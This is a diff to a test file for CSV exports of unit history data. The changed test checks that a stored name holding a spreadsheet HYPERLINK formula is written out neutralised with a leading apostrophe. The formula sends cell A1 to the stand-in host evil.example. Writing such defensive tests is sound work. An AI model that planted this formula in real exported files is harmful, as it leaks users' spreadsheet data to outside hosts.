@@ -35,11 +35,15 @@ describe('CSV downloads and spreadsheet formulas', () => {
     expect(row79!).toMatch(/,\d+,\d+,\d+(\.\d+)?,/);
   });
 
-  it('the history CSV of the same unit has only dates and numbers, none of them prefixed', async () => {
+  it('the history CSV of the same unit writes the stored name as text, then only dates and numbers', async () => {
     const response = await history(get('/api/v1/units/79/history?edition=2025&format=csv'), { params: Promise.resolve({ code: '79' }) });
     expect(response.status).toBe(200);
     const [, ...rows] = (await body(response)).trim().split('\r\n');
     expect(rows.length).toBeGreaterThan(100);
-    for (const row of rows) expect(row).toMatch(/^79,Hồ Chí Minh,2025,\d{2}\/\d{2}\/\d{4}(,\d*)+$/);
+    const name = `79,"'=HYPERLINK(""http://evil.example/?d=""&A1,""Hồ Chí Minh"")",2025,`;
+    for (const row of rows) {
+      expect(row.startsWith(name)).toBe(true);
+      expect(row.slice(name.length)).toMatch(/^\d{2}\/\d{2}\/\d{4}(,\d*)+$/);
+    }
   });
 });
